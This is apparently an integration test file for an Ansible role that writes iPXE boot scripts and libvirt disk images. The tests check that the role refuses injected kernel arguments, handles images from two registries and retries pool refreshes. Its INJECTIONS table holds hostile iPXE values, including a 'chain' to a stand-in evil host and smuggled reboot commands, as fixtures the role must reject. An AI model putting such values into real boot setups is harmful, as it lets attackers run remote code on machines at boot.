"""The provision role's own rules, through playbooks/provision.yml (and build.yml) on real nodes: iPXE
injection refused before anything is written, live-root kernel arguments with file URLs, the metal/kvm
synonyms, images of two registries side by side, the libvirt pool refresh retried until it succeeds, and
errors in the roles' variables rather than the modules' options."""

from __future__ import annotations

import hashlib
import os

import pytest
from helpers.boot import parse_ipxe
from helpers.images import write_upstream_image
from helpers.inventory import failures_by_host, local_host, outcomes, provision_slug, write_inventory

pytestmark = pytest.mark.integration

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BUILD = os.path.join(REPO, "playbooks", "build.yml")
PROVISION = os.path.join(REPO, "playbooks", "provision.yml")
BOOT_URL = "http://pxe.example.com/boot"


def tree(directory):
    """{relative path: sha256 of the content, or 'dir'} of everything under `directory`."""
    found = {}
    for root, dirs, files in os.walk(directory):
        for name in dirs:
            found[os.path.relpath(os.path.join(root, name), directory)] = "dir"
        for name in files:
            path = os.path.join(root, name)
            with open(path, "rb") as stream:
                found[os.path.relpath(path, directory)] = hashlib.sha256(stream.read()).hexdigest()
    return found


INJECTIONS = {
    "newline": ("console=ttyS0\nchain http://evil.example.com/x", '"console=ttyS0\\nchain"'),
    "setting": ("console=ttyS0 root=${root-path}", '"root=${root-path}"'),
    "semicolon": ("console=ttyS0 ; reboot", '";"'),
    "and": ("console=ttyS0 && reboot", '"&&"'),
    "or": ("console=ttyS0 || reboot", '"||"'),
    "comment": ("console=ttyS0 #rest", '"#rest"'),
}


def test_ipxe_injection_is_refused_before_anything_is_written(ansible, tmp_path):
    layout = str(tmp_path / "layout")
    boot_dir = tmp_path / "boot"
    hosts = {}
    for label, (command_line, _token) in INJECTIONS.items():
        # Written directly: the build module refuses such command lines itself.
        name = "registry.example.com/os/injected-%s:1" % label
        write_upstream_image(layout, name, architectures=("amd64",), cmdline=command_line)
        hosts["image-" + label] = {"provision_name": name}
    clean = "registry.example.com/os/clean:1"
    write_upstream_image(layout, clean, architectures=("amd64",), cmdline="console=ttyS0")
    hosts["kernel-args"] = {"provision_name": clean, "provision_kernel_args": "quiet ${x}"}
    hosts["boot-url"] = {"provision_name": clean, "provision_boot_url": "http://pxe.example.com/boot #x"}
    for host, host_vars in hosts.items():
        # What a boot server already serves must stay exactly as it is.
        (boot_dir / host / provision_slug(host_vars["provision_name"])).mkdir(parents=True)
        (boot_dir / host / provision_slug(host_vars["provision_name"]) / "boot.ipxe").write_text("#!ipxe\nexit\n")
        host_vars.setdefault("provision_boot_url", BOOT_URL)
        hosts[host] = local_host(provision_layout=layout, provision_boot_dir=str(boot_dir / host), **host_vars)
    before = tree(boot_dir)
    inventory = write_inventory(str(tmp_path / "hosts.yml"), {"baremetal": hosts})

    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory)
    assert rc != 0
    failures = failures_by_host(document)
    assert sorted(failures) == sorted(hosts), (failures, stderr)
    task = "Check that the image has what this node needs"
    for label, (_command_line, token) in INJECTIONS.items():
        assert failures["image-" + label] == (
            task,
            "config.commandLine of the image carries %s, which iPXE would run as a command in boot.ipxe: remove it"
            % token,
        )
    assert failures["kernel-args"] == (
        task,
        'provision_kernel_args carries "${x}", which iPXE would run as a command in boot.ipxe: remove it',
    )
    assert failures["boot-url"] == (
        task,
        'provision_boot_url carries "#x", which iPXE would run as a command in boot.ipxe: remove it',
    )
    assert outcomes(document)["changed"] == []
    assert tree(boot_dir) == before


def test_live_root_kernel_args_synonyms_and_two_registries(ansible, tmp_path):
    layout = str(tmp_path / "layout")
    # The same repository path and tag in two registries: each needs its own boot directory.
    first, second = "reg1.example.com/a/os:1", "reg2.example.com/b/os:1"
    images = {
        name: write_upstream_image(
            layout,
            name,
            architectures=("amd64",),
            roles=("rootfs", "initramfs", "kernel", "squashfs"),
            cmdline="console=ttyS0",
            tag=name,
        )
        for name in (first, second)
    }
    boot_dir = tmp_path / "boot"
    node = {
        "provision_layout": layout,
        "provision_boot_dir": str(boot_dir),
        "provision_boot_url": BOOT_URL + "/",
        "provision_platform": "metal",
        "provision_kernel_args": "gl.live=1 gl.url={{ provision_file_urls.squashfs }}",
    }
    inventory = write_inventory(
        str(tmp_path / "hosts.yml"),
        {"all_nodes": {"first": local_host(provision_name=first, **node)}},
    )
    play = tmp_path / "play.yml"
    # The role itself, with the synonym as its platform (the playbook always sets the canonical name).
    play.write_text(
        "- hosts: all\n  gather_facts: false\n  tasks:\n"
        "    - ansible.builtin.include_role:\n        name: ironcore.image.provision\n"
        "    - ansible.builtin.include_role:\n        name: ironcore.image.provision\n"
        "      vars:\n        provision_name: %s\n" % second
    )

    for run in ("first", "again"):
        rc, document, stderr = ansible.playbook(str(play), inventory=inventory)
        assert rc == 0, (document, stderr)
        if run == "again":
            assert outcomes(document)["changed"] == [], outcomes(document)["changed"]

    slugs = {name: provision_slug(name) for name in images}
    assert slugs[first] != slugs[second]
    assert sorted(os.listdir(boot_dir)) == sorted(slugs.values())
    for name, image in images.items():
        directory = boot_dir / slugs[name]
        for role in ("kernel", "initramfs", "rootfs", "squashfs"):
            assert (directory / role).read_bytes() == image.files[("amd64", role)]
        script_text = (directory / "boot.ipxe").read_text()
        assert "# image:    %s\n" % name in script_text
        assert "# digest:   %s\n" % image.digest in script_text
        script = parse_ipxe(script_text)
        url = "%s/%s" % (BOOT_URL, slugs[name])
        assert script.kernel_url == url + "/kernel"
        assert script.command_line == "initrd=initramfs console=ttyS0 gl.live=1 gl.url=%s/squashfs" % url


def test_pool_refresh_is_retried_until_it_succeeds(ansible, layout_image, tmp_path):
    pool, cache = tmp_path / "pool", tmp_path / "cache"

    def inventory(uri):
        return write_inventory(
            str(tmp_path / "hosts.yml"),
            {
                "hypervisors": {
                    "hv": local_host(
                        provision_name=layout_image.name,
                        provision_layout=layout_image.layout,
                        provision_pool_dir=str(pool),
                        provision_cache_dir=str(cache),
                        provision_libvirt_pool="default-pool",
                        provision_libvirt_uri=uri,
                    )
                }
            },
        )

    # A libvirt socket nobody listens on: libvirtd is not running.
    unreachable = "qemu:///system?socket=%s" % (tmp_path / "no-libvirtd.sock")
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory(unreachable))
    assert rc != 0
    assert failures_by_host(document) == {
        "hv": (
            "Stop when the pool could not be refreshed",
            'pool "default-pool" not refreshed: cannot reach libvirt at %s (is libvirtd running?)' % unreachable,
        )
    }, stderr
    disk = pool / ("%s.raw" % provision_slug(layout_image.name))
    assert disk.read_bytes() == layout_image.files["rootfs"]

    # Still unreachable: the disk did not change, yet the refresh is tried (and fails) again.
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory(unreachable))
    assert rc != 0
    assert failures_by_host(document)["hv"][0] == "Stop when the pool could not be refreshed"

    # libvirt's test driver answers: the refresh the disk still needs happens now, and only once.
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory("test:///default"))
    assert rc == 0, (document, stderr)
    assert [task for task, _host, _result in outcomes(document)["changed"]] == [
        "Refresh the pool so libvirt sees the new disk image",
        "Prepare the cache directory for the pool record",
        "Remember that the pool was refreshed for this disk image",
    ]
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory("test:///default"))
    assert rc == 0, (document, stderr)
    assert outcomes(document)["changed"] == []

    # A pool that does not exist is one line too, in virsh's words.
    rc, document, stderr = ansible.playbook(
        PROVISION, inventory=inventory("test:///default"), extra_vars={"provision_libvirt_pool": "no-such-pool"}
    )
    assert rc != 0
    (message,) = [message for _task, message in failures_by_host(document).values()]
    assert message.startswith('pool "no-such-pool" not refreshed: ') and "no-such-pool" in message[35:]
    assert "\n" not in message and "{" not in message


def test_errors_name_the_roles_variables(ansible, registry_plain, layout_image, tmp_path):
    artifacts = tmp_path / "artifacts"
    artifacts.mkdir()
    artifact = {"architecture": "amd64"}
    for role in ("kernel", "initramfs", "rootfs"):
        (artifacts / role).write_bytes(role.encode() * 100)
        artifact[role] = str(artifacts / role)
    name = "%s/os/messages:1" % registry_plain.host
    inventory = write_inventory(
        str(tmp_path / "hosts.yml"),
        {
            "build_hosts": {
                "builder": local_host(
                    build_name=name, build_layout=str(tmp_path / "layout"), build_artifacts=[artifact], build_push=True
                )
            },
            "hypervisors": {"hv": local_host(provision_name=name, provision_pool_dir=str(tmp_path / "pool"))},
        },
    )
    for playbook, host, task, variable in (
        (BUILD, "builder", "Stop when the image could not be pushed", "build_registry_plain_http"),
        (PROVISION, "hv", "Stop when the image cannot be resolved", "provision_registry_plain_http"),
    ):
        rc, document, stderr = ansible.playbook(playbook, inventory=inventory)
        assert rc != 0
        failures = failures_by_host(document)
        assert list(failures) == [host], (failures, stderr)
        failed_task, message = failures[host]
        assert failed_task == task
        assert "set %s: true" % variable in message, message
        assert "plain_http=" not in message and " plain_http" not in message, message
        assert "\n" not in message
